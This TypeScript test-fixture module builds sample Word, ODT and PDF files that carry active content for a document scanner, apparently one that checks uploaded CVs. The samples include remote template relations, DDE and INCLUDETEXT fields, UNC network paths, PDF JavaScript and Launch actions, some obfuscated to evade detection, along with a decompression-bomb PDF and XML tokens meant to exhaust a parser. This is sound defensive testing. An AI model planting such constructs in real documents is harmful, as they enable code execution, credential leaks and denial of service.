import { constants, deflateSync } from 'node:zlib'
import type { ContenidoActivo } from '#domain/cvs/archivo.ts'
import { buildZip, type ZipEntry } from './build-zip.ts'
import { buildPdfConObjetos } from './pdf-con-objetos.ts'

const escapeXml = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

export const CONTENT_TYPES = {
  name: '[Content_Types].xml',
  content:
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
} satisfies ZipEntry

export const RELS = {
  name: '_rels/.rels',
  content:
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
} satisfies ZipEntry

const WORD_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

export const buildDocumentXml = (paragraphs: string[], doctype = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>${doctype}<w:document ${WORD_NS}><w:body>${paragraphs
    .map((text) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`)
    .join('')}</w:body></w:document>`

export const buildDocx = (...paragraphs: string[]) =>
  buildZip([
    CONTENT_TYPES,
    RELS,
    { name: 'word/document.xml', content: buildDocumentXml(paragraphs.map(escapeXml)) },
  ])

/** A document with a part of its own choosing, here or elsewhere. */
export const buildDocxRelatedTo = (type: string, mode = 'External') =>
  buildZip([
    CONTENT_TYPES,
    RELS,
    { name: 'word/document.xml', content: buildDocumentXml(['hola']) },
    {
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://ajeno.example/x.dotm" TargetMode="${mode}"/></Relationships>`,
    },
  ])

export const ODT_MIMETYPE: ZipEntry = {
  name: 'mimetype',
  content: 'application/vnd.oasis.opendocument.text',
  stored: true,
}

export const MANIFEST: ZipEntry = {
  name: 'META-INF/manifest.xml',
  content:
    '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>',
}

export const buildOdt = (...paragraphs: string[]) =>
  buildZip([
    ODT_MIMETYPE,
    MANIFEST,
    {
      name: 'content.xml',
      content: `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>${paragraphs
        .map((text) => `<text:p>${escapeXml(text)}</text:p>`)
        .join('')}</office:text></office:body></office:document-content>`,
    },
  ])

/** One page with one line per text, its letters in the encoding PDF calls WinAnsi (Latin 1 for Spanish). */
export function buildPdf(...lines: string[]): Buffer {
  const escaped = lines.map((line) => line.replace(/[\\()]/g, '\\$&'))
  const drawing = `BT /F1 12 Tf 50 780 Td ${escaped.map((line) => `(${line}) Tj 0 -16 Td`).join(' ')} ET`
  return buildPdfOf(deflateSync(Buffer.from(drawing, 'latin1')))
}

/** A page that unpacks to as many megabytes of blanks: each is a block of its own, so one is packed and repeated. */
export function buildPdfBomb(megas: number): Buffer {
  const drawing = Buffer.alloc(1024 * 1024, ' ')
  const mega = deflateSync(drawing, { finishFlush: constants.Z_FULL_FLUSH })
  const blocks = Array.from({ length: megas }, () => mega.subarray(2))
  return buildPdfOf(Buffer.concat([mega.subarray(0, 2), ...blocks]))
}

function buildPdfOf(packed: Buffer): Buffer {
  const objects = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    Buffer.from(
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> >>',
    ),
    Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'),
    Buffer.concat([
      Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`),
      packed,
      Buffer.from('\nendstream'),
    ]),
  ]
  const parts = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  const offsets: number[] = []
  let length = parts[0]!.length
  for (const [index, body] of objects.entries()) {
    offsets.push(length)
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')])
    parts.push(object)
    length += object.length
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}

/** The smallest compound file with one named stream: header, allocation table, directory, one sector of content. */
export function buildDoc(stream = 'WordDocument', second?: string): Buffer {
  const sector = 512
  const bytes = Buffer.alloc(sector * 4)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(bytes)
  bytes.writeUInt16LE(0x3e, 24)
  bytes.writeUInt16LE(3, 26)
  bytes.writeUInt16LE(0xfffe, 28)
  bytes.writeUInt16LE(9, 30)
  bytes.writeUInt16LE(6, 32)
  bytes.writeUInt32LE(1, 44)
  bytes.writeUInt32LE(1, 48)
  bytes.writeUInt32LE(4096, 56)
  bytes.writeUInt32LE(0xfffffffe, 60)
  bytes.writeUInt32LE(0xfffffffe, 68)
  bytes.fill(0xff, 76, sector)
  bytes.writeUInt32LE(0, 76)
  bytes.fill(0xff, sector, sector * 2)
  bytes.writeUInt32LE(0xfffffffd, sector)
  bytes.writeUInt32LE(0xfffffffe, sector + 4)
  bytes.writeUInt32LE(0xfffffffe, sector + 8)
  const writeEntry = (index: number, name: string, type: number, start: number) => {
    const at = sector * 2 + index * 128
    bytes.write(name, at, 'utf16le')
    bytes.writeUInt16LE((name.length + 1) * 2, at + 64)
    bytes[at + 66] = type
    bytes.writeUInt32LE(start, at + 116)
  }
  writeEntry(0, 'Root Entry', 5, 0xfffffffe)
  writeEntry(1, stream, 2, 2)
  if (second) writeEntry(2, second, 1, 0)
  return bytes
}

export const docxWith = (inside: string, doctype = '') =>
  buildZip([
    CONTENT_TYPES,
    RELS,
    { name: 'word/document.xml', content: buildDocumentXml([`</w:t>${inside}<w:t>`], doctype) },
  ])

const MEGAS = 31 * 1024 * 1024

/** A text of some kilobytes that unpacks to one token without end. */
export const TOKENS_SIN_FIN: Record<string, () => Buffer> = {
  'an attribute of a field': () => docxWith(`<w:fldSimple w:instr="${'a'.repeat(MEGAS)}"/>`),
  'a comment': () => docxWith(`<!--${'< '.repeat(MEGAS / 2)}-->`),
  'the name of an element': () => docxWith(`<${'a'.repeat(MEGAS)}/>`),
  'the name of an attribute': () => docxWith(`<a ${'a'.repeat(MEGAS)}=""/>`),
  'an instruction': () => docxWith(`<?a ${'a'.repeat(MEGAS)}?>`),
  'an entity': () => docxWith(`&${'a'.repeat(MEGAS)};`),
  '300,000 attributes': () =>
    docxWith(`<a ${Array.from({ length: 300_000 }, (_, n) => `a${n}=""`).join(' ')}/>`),
  'elements within each other': () => docxWith('<a>'.repeat(MEGAS / 3)),
}

const pdfWith = (catalogo: string) =>
  Buffer.from(buildPdf('Hola').toString('latin1').replace('/Catalog', `/Catalog${catalogo}`), 'latin1')

const odtWith = (inside: string) =>
  buildZip([
    ODT_MIMETYPE,
    MANIFEST,
    { name: 'content.xml', content: `<office:document-content>${inside}</office:document-content>` },
  ])

/** A Word file with so many letters behind it: where its text stands is of no concern. */
const docWith = (letras: string, encoding: BufferEncoding = 'latin1') =>
  Buffer.concat([buildDoc(), Buffer.from(letras, encoding)])

const field = (...pieces: string[]) =>
  docxWith(
    `<w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText>${piece}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`,
  )

/** What is kept and marked: its name, its mark, the file. */
export const ARCHIVOS_ACTIVOS: [string, ContenidoActivo, Buffer][] = [
  ...[
    'attachedTemplate',
    'frame',
    'subDocument',
    'externalLinkPath',
    'oleObject',
    'mailMergeSource',
    'queLlegara',
  ].map((type): [string, ContenidoActivo, Buffer] => [
    `an external relation: ${type}`,
    'externo',
    buildDocxRelatedTo(type),
  ]),
  [
    'one with a letter by its number',
    'externo',
    buildDocxRelatedTo('attached&#84;emplate', 'Ex&#x0074;ernal'),
  ],
  ['one with blanks around', 'externo', buildDocxRelatedTo(' attachedTemplate ', ' external ')],
  ...['oleObject', 'package', 'control', 'aFChunk'].map((type): [string, ContenidoActivo, Buffer] => [
    `an object: ${type}`,
    'objetos',
    buildDocxRelatedTo(type, 'Internal'),
  ]),
  ...['INCLUDETEXT', 'INCLUDEPICTURE', 'DDE', 'DDEAUTO', 'LINK', 'IMPORT', 'DATABASE', 'EMBED', 'RD'].map(
    (word): [string, ContenidoActivo, Buffer] => [
      `a field: ${word}`,
      'campos',
      field(` ${word} "http://x.gt/y" `),
    ],
  ),
  ['a field in pieces', 'campos', field('IN', 'CLUDE&#84;', '<![CDATA[EXT]]> "x"')],
  ['a field in one element', 'campos', docxWith('<w:fldSimple w:instr="includetext x"/>')],
  [
    'a relation to a computer of the network',
    'red',
    buildZip([
      CONTENT_TYPES,
      RELS,
      { name: 'word/document.xml', content: buildDocumentXml(['hola']) },
      {
        name: 'word/_rels/document.xml.rels',
        content:
          '<Relationships><Relationship Id="r1" Type="x/image" Target="\\\\host\\a.png" TargetMode="External"/></Relationships>',
      },
    ]),
  ],
  ['a link to a computer of the network', 'red', field('HYPERLINK "\\\\\\\\host\\\\x"')],
  ['a picture of a computer of the network', 'red', docxWith('<v:imagedata src="file://host/a.png"/>')],
  ['letters of its own', 'sinRevisar', docxWith('hola', '<!DOCTYPE x [<!ENTITY y "z">]>')],
  ['an embedded object of an ODT', 'objetos', odtWith('<draw:object xlink:href="./Object 1"/>')],
  ['an OLE object of an ODT', 'objetos', odtWith('<draw:object-ole xlink:href="./Object 1"/>')],
  ['a floating frame of an ODT', 'objetos', odtWith('<draw:floating-frame xlink:href="https://x.gt"/>')],
  ['a linked section of an ODT', 'campos', odtWith('<text:section-source xlink:href="https://x.gt/a.odt"/>')],
  ['a DDE source of an ODT', 'campos', odtWith('<office:dde-source office:dde-application="x"/>')],
  ['another source of an ODT', 'externo', odtWith('<form:form xlink:href="../x.odb"/>')],
  [
    'a macro that an ODT calls',
    'acciones',
    odtWith('<text:a xlink:href="vnd.sun.star.s&#x63;ript:x.py$y"/>'),
  ],
  ['an event of an ODT', 'acciones', odtWith('<script:event-listener script:event-name="dom:load"/>')],
  ['a picture of an ODT of the network', 'red', odtWith('<draw:image xlink:href="file://host/a.png"/>')],
  ['JavaScript of a PDF', 'acciones', pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a launch of a PDF', 'acciones', pdfWith('/OpenAction<</S %x\n/Laun#63h/F(a.exe)>>')],
  ['a launch by another object', 'acciones', pdfWith('/OpenAction<</S 9 0 R>> 9 0 obj /Launch endobj')],
  ['a launch in packed objects', 'acciones', buildPdfConObjetos('/OpenAction<</S/Launch/F(a.exe)>>')],
  ['a file in a PDF', 'objetos', pdfWith('/Names<</EmbeddedFiles 9 0 R>>')],
  ['an attached file of a PDF', 'objetos', pdfWith('/A<</Type/Annot/Subtype/FileAttachment>>')],
  ['another file of a PDF', 'externo', pdfWith('/OpenAction<</S/GoToR/F(otro.pdf)>>')],
  ['a PDF that asks the network', 'red', pdfWith('/OpenAction<</S/URI/URI(\\\\\\\\host\\\\x)>>')],
  [
    'a PDF whose objects nobody sees',
    'sinRevisar',
    buildPdfConObjetos('', {
      dice: '/Type /ObjStm /Filter /ASCIIHexDecode',
      pack: (objects) => Buffer.from(`${objects.toString('hex')}>`),
    }),
  ],
  ['a field of a Word file', 'campos', docWith('\x13 INCLUDETEXT "x" \x14y\x15')],
  ['the same in two bytes a letter', 'campos', docWith('\x13 DDEAUTO x y\x15', 'utf16le')],
  ['an object of a Word file', 'objetos', buildDoc('WordDocument', '_1234567890')],
  ['a template of a Word file', 'externo', docWith('https://x.gt/y.dotm', 'utf16le')],
  ['a Word file that asks the network', 'red', docWith('\\\\host\\y.dotm', 'utf16le')],
]
